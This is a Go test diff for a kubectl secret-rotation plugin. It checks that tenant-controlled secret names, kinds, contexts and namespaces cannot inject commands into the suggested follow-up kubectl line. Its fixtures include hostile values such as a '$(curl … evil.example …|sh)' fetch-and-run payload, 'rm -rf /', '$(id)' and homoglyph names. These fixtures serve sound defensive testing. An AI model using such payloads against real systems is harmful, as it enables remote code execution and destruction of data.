@@ -12,6 +12,7 @@ import (
 
 	"github.com/kubectl-rotate/kubectl-rotate/pkg/config"
 	"github.com/kubectl-rotate/kubectl-rotate/pkg/kube"
+	"github.com/kubectl-rotate/kubectl-rotate/pkg/kubesecret"
 	"github.com/kubectl-rotate/kubectl-rotate/pkg/report"
 	"github.com/kubectl-rotate/kubectl-rotate/pkg/rotation"
 )
@@ -72,16 +73,51 @@ func TestTargetThatIsNotThereIsSaidToBeMissing(t *testing.T) {
 
 // Who names a targets file on the command line has to name it again to go on, as a shell reads it.
 func TestTheTargetsFileIsNamedAgain(t *testing.T) {
-	for path, want := range map[string]string{
-		"": "", "targets.yaml": " --config targets.yaml", "/home/ann/über_all-1.yaml": " --config /home/ann/über_all-1.yaml",
-		"my targets.yaml": " --config 'my targets.yaml'", "it's $HOME": ` --config 'it'\''s $HOME'`,
+	o := &opened{clients: &kube.Clients{Context: "prod", Namespace: "shop"}, file: "my targets.yaml", target: config.Target{Name: "jwt", Kind: config.KindJWT}}
+	if got, want := command(o, rotation.Intent{Compromised: true}), "kubectl rotate jwt --context prod -n shop --compromised --config 'my targets.yaml'"; got != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+}
+
+// Whoever may write Secrets in a namespace writes records in it. What stands there as a name becomes no command of somebody who looks at the
+// whole cluster.
+func TestNoRecordWritesACommand(t *testing.T) {
+	const inject = "pg$(curl -s https://evil.example/x|sh)"
+	for _, c := range []struct {
+		name, kind, context, file string
+		back                      bool
+		shown, shownKind, want    string
+	}{
+		{name: "orders", kind: "postgres", context: "prod", shown: "orders", shownKind: "postgres", want: "kubectl rotate postgres orders --context prod -n tenant"},
+		{name: "orders", kind: "postgres", context: "prod", back: true, shown: "orders", shownKind: "postgres", want: "kubectl rotate abort orders --context prod -n tenant"},
+		{name: "orders", kind: "redis", context: "it's $(id)", file: "-x y", shown: "orders", shownKind: "redis",
+			want: `kubectl rotate redis orders --context 'it'\''s $(id)' -n tenant --config '-x y'`},
+		{name: "orders", kind: "redis", context: "prod\nrm -rf /", shown: "orders", shownKind: "redis"},
+		{name: inject, kind: "postgres", context: "prod", shown: "app-db", shownKind: "postgres", want: "kubectl rotate postgres app-db --context prod -n tenant"},
+		{name: "orders", kind: "postgres; id", context: "prod", shown: "orders", shownKind: kindUnknown},
+		{name: "orders", kind: "status", context: "prod", shown: "orders", shownKind: kindUnknown},
+		{name: "orders", context: "prod", shown: "orders", shownKind: kindUnknown},
+		{name: "orders", context: "prod", back: true, shown: "orders", shownKind: kindUnknown},
+		{name: "--config=/tmp/x", kind: "jwt", context: "prod", back: true, shown: "app-db", shownKind: "jwt", want: "kubectl rotate abort app-db --context prod -n tenant"},
+		{name: "-h", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"},
+		{name: "a b", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"},
+		{name: "a'b\n`id`", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"},
+		{name: "\u202eорders", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"},
+		{name: "оrders", kind: "jwt", context: "prod", shown: "app-db", shownKind: "jwt", want: "kubectl rotate jwt app-db --context prod -n tenant"}, // a Cyrillic o
 	} {
-		if got := (&global{config: path}).fileFlag(); got != want {
-			t.Errorf("%q: got %q, want %q", path, got, want)
+		found := described(config.Target{Secret: config.Secret{Name: "app-db"}}, kubesecret.About{Name: c.name, Kind: c.kind})
+		if found.Name != c.shown || string(found.Kind) != c.shownKind {
+			t.Errorf("%q of kind %q: is called %q of kind %q", c.name, c.kind, found.Name, found.Kind)
+		}
+		line := commandLine{&kube.Clients{Context: c.context}, found, "tenant", c.file}
+		if got := line.goOn(c.back, false); got != c.want {
+			t.Errorf("%q of kind %q: got %q, want %q", c.name, c.kind, got, c.want)
 		}
 	}
-	o := &opened{clients: &kube.Clients{Context: "prod", Namespace: "shop"}, file: " --config targets.yaml", target: config.Target{Name: "jwt", Kind: config.KindJWT}}
-	if got, want := command(o, rotation.Intent{Compromised: true}), "kubectl rotate jwt --context prod -n shop --compromised --config targets.yaml"; got != want {
-		t.Errorf("got %q, want %q", got, want)
+	for _, namespace := range []string{"", "a b", "$(id)", "-x", "a\nb"} {
+		line := commandLine{&kube.Clients{Context: "prod"}, config.Target{Name: "orders", Kind: config.KindJWT}, namespace, ""}
+		if got := line.goOn(false, false); got != "" {
+			t.Errorf("namespace %q: got %q", namespace, got)
+		}
 	}
 }
